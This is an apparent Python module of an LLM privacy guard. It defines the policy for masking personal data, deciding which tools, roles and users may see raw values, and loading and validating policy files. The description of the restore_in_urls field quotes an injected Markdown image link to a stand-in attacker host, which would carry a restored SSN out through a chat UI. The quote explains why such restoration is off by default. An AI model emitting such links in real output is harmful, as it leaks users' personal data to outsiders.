"""Who may see which raw value: the policy model, its loader and its decisions.

A policy says, per entity type, what masking does with a value (``action``) and
who may see the raw value again (``reveal_to``: tools by name, roles, principals,
purposes; ``deny`` overrides).  It also names principals' roles and carries
per-tool options (an open dict, e.g. ``{run_sql: {read_only: true, max_rows: 100}}``).

Actions: ``allow`` (leave as is), ``tokenize`` (``[EMAIL_1]``, reversible),
``surrogate`` (a realistic fake, reversible), ``mask`` (keep the last 4
characters; irreversible), ``hash`` (keyed HMAC; irreversible), ``redact``
(irreversible), ``block`` (refuse the step).

The built-in default (``Policy.default()``, used when there is no file)::

    default_action: tokenize      # every PII type becomes a token
    user_sees_restored: true      # the end user of the same scope gets values back
    # tools see a raw value only when granted (here or with wrap_tool(reveal=[...]))
    # secrets are always redacted, never stored and never revealed (not configurable)

Recipients: ``user``, ``model``, ``tool:<name>``, ``role:<name>``, ``principal:<id>``.
Every :class:`Decision` carries a readable rule id, e.g.
``entities.EMAIL_ADDRESS.reveal_to.tools[send_email]`` or ``default.user_same_scope``.
"""

from __future__ import annotations

import json
import re
import sys
import threading
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

from pydantic import BaseModel, ConfigDict, Field, PrivateAttr, ValidationError, model_validator

from guardllm.errors import InputError, PolicyError
from guardllm.tokens.format import is_secret

Action = Literal["allow", "tokenize", "surrogate", "mask", "hash", "redact", "block"]
ACTIONS: tuple[str, ...] = ("allow", "tokenize", "surrogate", "mask", "hash", "redact", "block")
REVERSIBLE = frozenset({"tokenize", "surrogate"})
_SECRET_ACTIONS = frozenset({"redact", "hash", "block"})


@dataclass(frozen=True, slots=True)
class Decision:
    """The answer to "may this recipient see the raw value?"; truthy when allowed."""

    allowed: bool
    rule: str

    def __bool__(self) -> bool:
        return self.allowed


class _Model(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)


class RevealRule(_Model):
    """Who may see the raw value of a type."""

    user: bool | None = Field(
        None, description="The end user of the same scope (default: user_sees_restored)."
    )
    tools: list[str] = Field(default_factory=list, description="Tool names ('*' for every tool).")
    roles: list[str] = Field(default_factory=list)
    principals: list[str] = Field(default_factory=list)
    purposes: list[str] = Field(
        default_factory=list, description="When set, a reveal also needs one of these purposes."
    )


class DenyRule(_Model):
    """Never reveal to these, whatever else grants it."""

    tools: list[str] = Field(default_factory=list)
    roles: list[str] = Field(default_factory=list)
    principals: list[str] = Field(default_factory=list)


class EntityPolicy(_Model):
    action: Action | None = None
    reveal_to: RevealRule = Field(default_factory=RevealRule)
    deny: DenyRule = Field(default_factory=DenyRule)


class PrincipalPolicy(_Model):
    roles: list[str] = Field(default_factory=list)
    description: str | None = None


class Policy(_Model):
    """The whole policy.  Immutable; ``with_tool_grant`` returns a new one."""

    version: Literal[1] = 1
    default_action: Action = "tokenize"
    user_sees_restored: bool = True
    restore_in_urls: bool = Field(
        False,
        description="Restore tokens inside URLs (Markdown link/image targets, HTML tag attributes, "
        "bare http(s):// or www. links).  Off: they stay tokens (refused, rule 'url-context'), so an "
        "injected ![](https://attacker/?d=[SSN_1]) cannot make a chat UI send the value out.",
    )
    defaults: EntityPolicy = Field(
        default_factory=EntityPolicy, description="Applies to entity types not listed under entities."
    )
    entities: dict[str, EntityPolicy] = Field(default_factory=dict)
    principals: dict[str, PrincipalPolicy] = Field(default_factory=dict)
    tools: dict[str, dict[str, Any]] = Field(
        default_factory=dict, description="Per-tool options, open-ended (read_only, max_rows, ...)."
    )

    _cache: dict[tuple[Any, ...], Decision] = PrivateAttr(default_factory=dict)
    _lock: threading.Lock = PrivateAttr(default_factory=threading.Lock)

    @model_validator(mode="after")
    def _check(self) -> Policy:
        problems = semantic_errors(self.model_dump())
        if problems:
            loc, msg = problems[0]
            raise ValueError(f"{_loc(loc)}: {msg}")
        return self

    # construction ------------------------------------------------------------------
    @classmethod
    def default(cls) -> Policy:
        """The safe default: PII tokenized, tools see nothing raw, the user sees values restored."""
        return cls()

    @classmethod
    def from_dict(cls, data: Mapping[str, Any], *, source: str = "<policy>") -> Policy:
        data = dict(data)
        return _validate(data, source, lambda loc: None)

    def with_tool_grant(self, tool_name: str, entity_types: Iterable[str]) -> Policy:
        """A copy of this policy that also lets ``tool:<tool_name>`` see ``entity_types`` raw."""
        entities = dict(self.entities)
        for etype in entity_types:
            if is_secret(etype):
                continue  # never grantable: wrap_tool(reveal=[...]) cannot open a secret
            ep = entities.get(etype) or EntityPolicy(
                action=self.defaults.action, reveal_to=self.defaults.reveal_to, deny=self.defaults.deny
            )
            if tool_name in ep.reveal_to.tools:
                continue
            reveal = ep.reveal_to.model_copy(update={"tools": [*ep.reveal_to.tools, tool_name]})
            entities[etype] = ep.model_copy(update={"reveal_to": reveal})
        return self._fresh(self.model_copy(update={"entities": entities}))

    @staticmethod
    def _fresh(policy: Policy) -> Policy:
        # model_copy shares private attributes: give the copy its own decision cache
        policy._cache = {}
        policy._lock = threading.Lock()
        return policy

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, Policy):
            return NotImplemented
        return self.model_dump() == other.model_dump()

    def __hash__(self) -> int:
        return hash(json.dumps(self.model_dump(mode="json"), sort_keys=True))

    # questions -------------------------------------------------------------------
    def _entity(self, entity_type: str) -> tuple[EntityPolicy, str]:
        ep = self.entities.get(entity_type)
        if ep is not None:
            return ep, f"entities.{entity_type}"
        return self.defaults, "defaults"

    def action_for(self, entity_type: str) -> str:
        """What masking does with a value of this type (secrets: always ``redact``)."""
        ep, _ = self._entity(entity_type)
        if is_secret(entity_type):
            return ep.action if ep.action in _SECRET_ACTIONS else "redact"
        return ep.action or self.defaults.action or self.default_action

    def action_rule(self, entity_type: str) -> str:
        """The rule id that set :meth:`action_for` (for block errors and audit)."""
        ep, prefix = self._entity(entity_type)
        if ep.action:
            return f"{prefix}.action"
        if is_secret(entity_type):
            return "secrets.always_redacted"
        return "defaults.action" if self.defaults.action else "default_action"

    def roles_of(self, principal: str | None) -> tuple[str, ...]:
        if principal is None:
            return ()
        pp = self.principals.get(principal)
        return tuple(pp.roles) if pp else ()

    def tool_options(self, tool_name: str) -> dict[str, Any]:
        """The per-tool options dict (empty when the policy names no such tool)."""
        return dict(self.tools.get(tool_name, {}))

    def uses_surrogates(self) -> bool:
        return (
            self.default_action == "surrogate"
            or self.defaults.action == "surrogate"
            or any(ep.action == "surrogate" for ep in self.entities.values())
        )

    def decide(
        self,
        entity_type: str,
        recipient: str,
        principal: str | None = None,
        purpose: str | None = None,
        roles: Sequence[str] = (),
    ) -> Decision:
        """May ``recipient`` (acting for ``principal``) see a raw value of ``entity_type``?"""
        key = (entity_type, recipient, principal, purpose, tuple(sorted(roles)))
        cached = self._cache.get(key)
        if cached is not None:
            return cached
        decision = self._decide(entity_type, recipient, principal, purpose, roles)
        with self._lock:
            if len(self._cache) > 4096:
                self._cache.clear()
            self._cache[key] = decision
        return decision

    def _decide(
        self, etype: str, recipient: str, principal: str | None, purpose: str | None, roles: Sequence[str]
    ) -> Decision:
        if is_secret(etype):
            return Decision(False, "secrets.never_revealed")
        ep, prefix = self._entity(etype)
        action = self.action_for(etype)
        if action == "allow":
            return Decision(True, f"{prefix}.action.allow")
        if action not in REVERSIBLE:
            return Decision(False, f"{prefix}.action.{action}")
        kind, _, name = recipient.partition(":")
        if kind not in ("user", "model", "tool", "role", "principal") or (
            kind != "user" and kind != "model" and not name
        ):
            raise InputError(
                f"unknown recipient {recipient!r}: use 'user', 'model', 'tool:<name>', "
                "'role:<name>' or 'principal:<id>'"
            )
        all_roles = set(roles) | set(self.roles_of(principal))
        if kind == "principal":
            all_roles |= set(self.roles_of(name))
        if kind == "role":
            all_roles.add(name)
        deny, grant = ep.deny, ep.reveal_to
        who = [p for p in (principal, name if kind == "principal" else None) if p]
        for p in who:
            if p in deny.principals:
                return Decision(False, f"{prefix}.deny.principals[{p}]")
        for r in sorted(all_roles):
            if r in deny.roles:
                return Decision(False, f"{prefix}.deny.roles[{r}]")
        if kind == "tool" and (name in deny.tools or "*" in deny.tools):
            return Decision(False, f"{prefix}.deny.tools[{name}]")
        if kind == "model":
            return Decision(False, "default.model_sees_tokens")
        if grant.purposes and purpose not in grant.purposes:
            return Decision(False, f"{prefix}.reveal_to.purposes")
        if kind == "tool":
            for t in (name, "*"):
                if t in grant.tools:
                    return Decision(True, f"{prefix}.reveal_to.tools[{t}]")
            reveal = self.tools.get(name, {}).get("reveal") or ()
            if etype in reveal or "*" in reveal:
                return Decision(True, f"tools.{name}.reveal[{etype}]")
            return Decision(False, "default.least_privilege")
        if kind == "user":
            if grant.user is True:
                return Decision(True, f"{prefix}.reveal_to.user")
            if grant.user is None and self.user_sees_restored:
                return Decision(True, "default.user_same_scope")
        for p in who:
            if p in grant.principals:
                return Decision(True, f"{prefix}.reveal_to.principals[{p}]")
        for r in sorted(all_roles):
            if r in grant.roles:
                return Decision(True, f"{prefix}.reveal_to.roles[{r}]")
        if kind == "user":
            return Decision(
                False, f"{prefix}.reveal_to.user" if grant.user is False else "default.user_not_allowed"
            )
        return Decision(False, "default.least_privilege")

    def to_yaml(self) -> str:
        import yaml

        data = self.model_dump(mode="json", exclude_defaults=True)
        return yaml.safe_dump(data, sort_keys=False)


# ---------------------------------------------------------------------------- checks
def semantic_errors(data: Any) -> list[tuple[tuple[Any, ...], str]]:
    """Rules a schema cannot express, as ``(location, message)`` pairs.

    Runs on raw (possibly malformed) policy data as well as on a validated policy, so
    ``guardllm policy check`` can report every problem with its field and line rather
    than the first one at the top of the file.
    """
    out: list[tuple[tuple[Any, ...], str]] = []
    if not isinstance(data, Mapping):
        return out
    entities = data.get("entities")
    if isinstance(entities, Mapping):
        for name, ep in entities.items():
            if not isinstance(name, str) or not re.fullmatch(r"[A-Z][A-Z0-9_]*", name):
                out.append(
                    (("entities", str(name)), "must be an upper-case entity type name like EMAIL_ADDRESS")
                )
                continue
            action = ep.get("action") if isinstance(ep, Mapping) else None
            if is_secret(name) and action is not None and action not in _SECRET_ACTIONS:
                out.append(
                    (
                        ("entities", name, "action"),
                        f"{name} is a secret: its action can only be redact, hash or block "
                        "(secrets are never stored nor revealed)",
                    )
                )
    tools = data.get("tools")
    if isinstance(tools, Mapping):
        for tool, opts in tools.items():
            reveal = opts.get("reveal") if isinstance(opts, Mapping) else None
            if reveal is not None and (
                not isinstance(reveal, list) or not all(isinstance(t, str) for t in reveal)
            ):
                out.append(((("tools", str(tool), "reveal")), "must be a list of entity types"))
    return out


def _validate(data: dict[str, Any], source: str, locate: Any) -> Policy:
    """``Policy.model_validate`` with every schema and semantic error located."""
    problems = semantic_errors(data)
    try:
        policy = Policy.model_validate(data)
    except ValidationError as exc:
        # the model validator's root-level error repeats the first semantic problem
        raw = [(tuple(e["loc"]), _msg(e)) for e in exc.errors() if e["loc"] or not problems]
        problems = raw + problems
    else:
        if not problems:
            return policy

    def where(loc: tuple[Any, ...]) -> str:
        line = locate(loc)
        return f"{source}:{line}: {_loc(loc)}" if line is not None else f"{source}: {_loc(loc)}"

    errors = [(where(loc), msg) for loc, msg in problems]
    errors.sort(key=lambda e: _line_of(e[0]))
    raise PolicyError(_summary(errors), errors)


def _line_of(where: str) -> int:
    m = re.search(r":(\d+): ", where)
    return int(m.group(1)) if m else 0


# ---------------------------------------------------------------------------- loading
def load_policy(path: str | Path) -> Policy:
    """Load and validate a YAML (``.yaml``/``.yml``/``.json``) or TOML (``.toml``) policy.

    Errors raise :class:`~guardllm.errors.PolicyError` whose ``errors`` are
    ``("file:line: field", message)`` pairs.
    """
    p = Path(path)
    try:
        text = p.read_text(encoding="utf-8")
    except OSError as exc:
        raise PolicyError(
            f"cannot read policy file {p}: {exc.strerror}", [(str(p), str(exc.strerror))]
        ) from None
    except UnicodeDecodeError:
        raise PolicyError(f"policy file {p} is not UTF-8", [(f"{p}:1", "not UTF-8 text")]) from None
    return parse_policy(text, source=str(p), fmt="toml" if p.suffix.lower() == ".toml" else "yaml")


def parse_policy(text: str, *, source: str = "<policy>", fmt: str = "yaml") -> Policy:
    """Parse policy text (``fmt`` is ``yaml`` or ``toml``); see :func:`load_policy`."""
    dups: list[tuple[str, str]] = []
    if fmt == "toml":
        data, locate = _parse_toml(text, source)
    else:
        data, locate, dups = _parse_yaml(text, source)
    if data is None:
        data = {}
    if not isinstance(data, dict):
        raise PolicyError(
            f"{source}:1: the policy must be a mapping", [(f"{source}:1", "the policy must be a mapping")]
        )
    try:
        policy = _validate(data, source, locate)
    except PolicyError as exc:
        errors = sorted([*dups, *exc.errors], key=lambda e: _line_of(e[0]))
        raise PolicyError(_summary(errors), errors) from None
    if dups:
        raise PolicyError(_summary(dups), dups)
    return policy


def _loc(loc: Sequence[Any]) -> str:
    out = ""
    for part in loc:
        if isinstance(part, int):
            out += f"[{part}]"
        else:
            out += ("." if out else "") + str(part)
    return out or "(policy)"


def _msg(err: Mapping[str, Any]) -> str:
    msg = str(err.get("msg", "invalid"))
    if err.get("type") == "extra_forbidden":
        return "unknown field"
    if err.get("type") == "literal_error" and "expected" in err.get("ctx", {}):
        return f"must be one of {err['ctx']['expected']}"
    return msg.removeprefix("Value error, ")


def _summary(errors: list[tuple[str, str]]) -> str:
    lines = [f"{where}: {msg}" for where, msg in errors]
    return f"invalid policy ({len(errors)} error{'s' if len(errors) != 1 else ''}):\n  " + "\n  ".join(lines)


def _parse_yaml(text: str, source: str):  # type: ignore[no-untyped-def]
    import yaml

    try:
        node = yaml.compose(text, Loader=yaml.SafeLoader)
        data = yaml.safe_load(text)
    except yaml.MarkedYAMLError as exc:
        line = (exc.problem_mark.line + 1) if exc.problem_mark else 1
        msg = f"YAML syntax error: {exc.problem}"
        raise PolicyError(f"{source}:{line}: {msg}", [(f"{source}:{line}", msg)]) from None
    except yaml.YAMLError as exc:
        raise PolicyError(
            f"{source}:1: YAML error: {type(exc).__name__}", [(f"{source}:1", "YAML error")]
        ) from None

    # YAML silently keeps the last of two equal keys; in a policy that would let a
    # later rule quietly replace an earlier one, so a repeated key is an error.
    dups: list[tuple[str, str]] = []

    def walk(n: Any, path: tuple[Any, ...]) -> None:
        if isinstance(n, yaml.MappingNode):
            seen: dict[str, int] = {}
            for key, value in n.value:
                name = str(key.value)
                if name in seen:
                    dups.append(
                        (
                            f"{source}:{key.start_mark.line + 1}: {_loc((*path, name))}",
                            f"duplicate key (first defined on line {seen[name]}); YAML would keep only the last",
                        )
                    )
                else:
                    seen[name] = key.start_mark.line + 1
                walk(value, (*path, name))
        elif isinstance(n, yaml.SequenceNode):
            for i, item in enumerate(n.value):
                walk(item, (*path, i))

    walk(node, ())

    def locate(loc: tuple[Any, ...]) -> int:
        current = node
        line = (current.start_mark.line + 1) if current is not None else 1
        for part in loc:
            if isinstance(current, yaml.MappingNode):
                for key, value in current.value:
                    if key.value == str(part):
                        line = key.start_mark.line + 1
                        current = value
                        break
                else:
                    return line
            elif (
                isinstance(current, yaml.SequenceNode) and isinstance(part, int) and part < len(current.value)
            ):
                current = current.value[part]
                line = current.start_mark.line + 1
            else:
                return line
        return line

    return data, locate, dups


def _parse_toml(text: str, source: str):  # type: ignore[no-untyped-def]
    if sys.version_info >= (3, 11):
        import tomllib
    else:  # pragma: no cover
        import tomli as tomllib
    try:
        data = tomllib.loads(text)
    except tomllib.TOMLDecodeError as exc:
        m = re.search(r"line (\d+)", str(exc))
        line = int(m.group(1)) if m else 1
        msg = f"TOML syntax error: {str(exc).split(' (at')[0]}"
        raise PolicyError(f"{source}:{line}: {msg}", [(f"{source}:{line}", msg)]) from None
    lines = text.splitlines()

    def locate(loc: tuple[Any, ...]) -> int:
        # tomllib keeps no positions: find the deepest table header or key line on the path.
        best, start = 1, 0
        names = [str(p) for p in loc if not isinstance(p, int)]
        for depth in range(len(names), 0, -1):
            header = re.compile(
                r"^\s*\[+\s*" + r"\s*\.\s*".join(rf'"?{re.escape(n)}"?' for n in names[:depth]) + r"\s*\]+"
            )
            for i, ln in enumerate(lines):
                if header.match(ln):
                    best, start = i + 1, i
                    break
            else:
                continue
            break
        if names:
            key = re.compile(rf'^\s*"?{re.escape(names[-1])}"?\s*=')
            for i in range(start, len(lines)):
                if key.match(lines[i]):
                    return i + 1
                if i > start and lines[i].lstrip().startswith("[") and "=" not in lines[i]:
                    break
        return best

    return data, locate


def policy_warnings(path: str | Path) -> list[tuple[str, str]]:
    """Likely mistakes that are not errors, as ``("file:line: field", message)`` pairs.

    An entity type the detector does not know (``CREDITCARD`` for ``CREDIT_CARD``) is
    valid -- custom recognizers register their own types -- but a rule under a
    misspelt name never applies, so a ``block`` or ``deny`` would silently do nothing.
    Call on a file that :func:`load_policy` accepts.
    """
    import difflib

    from guardllm.detect.types import ALL_TYPES

    p = Path(path)
    text = p.read_text(encoding="utf-8")
    if p.suffix.lower() == ".toml":
        data, locate = _parse_toml(text, str(p))
    else:
        data, locate, _ = _parse_yaml(text, str(p))
    known = set(ALL_TYPES)
    out: list[tuple[str, str]] = []

    def check(name: Any, loc: tuple[Any, ...]) -> None:
        if not isinstance(name, str) or name in known or name == "*":
            return
        close = difflib.get_close_matches(name, sorted(known), n=1, cutoff=0.75)
        hint = f"did you mean {close[0]}?" if close else "a custom recognizer's type is fine"
        out.append((f"{p}:{locate(loc)}: {_loc(loc)}", f"unknown entity type {name} ({hint})"))

    if isinstance(data, Mapping):
        for name in data.get("entities") or {}:
            check(name, ("entities", name))
        for tool, opts in (data.get("tools") or {}).items():
            if isinstance(opts, Mapping) and isinstance(opts.get("reveal"), list):
                for i, name in enumerate(opts["reveal"]):
                    check(name, ("tools", tool, "reveal", i))
    return out


def as_policy(policy: Policy | str | Path | Mapping[str, Any] | None) -> Policy:
    """Accept what ``Guard(policy=...)`` accepts: None, a Policy, a path or a dict."""
    if policy is None:
        return Policy.default()
    if isinstance(policy, Policy):
        return policy
    if isinstance(policy, str | Path):
        return load_policy(policy)
    if isinstance(policy, Mapping):
        return Policy.from_dict(policy)
    raise PolicyError(f"policy must be None, a Policy, a file path or a dict, not {type(policy).__name__}")


def default_policy_text() -> str:
    """The commented YAML of the built-in default policy (``guardllm policy show``)."""
    from importlib.resources import files

    return files("guardllm.data").joinpath("default_policy.yaml").read_text(encoding="utf-8")


def policy_json_schema() -> str:
    return json.dumps(Policy.model_json_schema(), indent=2)


__all__ = [
    "ACTIONS",
    "Action",
    "Decision",
    "DenyRule",
    "EntityPolicy",
    "Policy",
    "PrincipalPolicy",
    "RevealRule",
    "as_policy",
    "load_policy",
    "parse_policy",
    "policy_warnings",
    "semantic_errors",
]
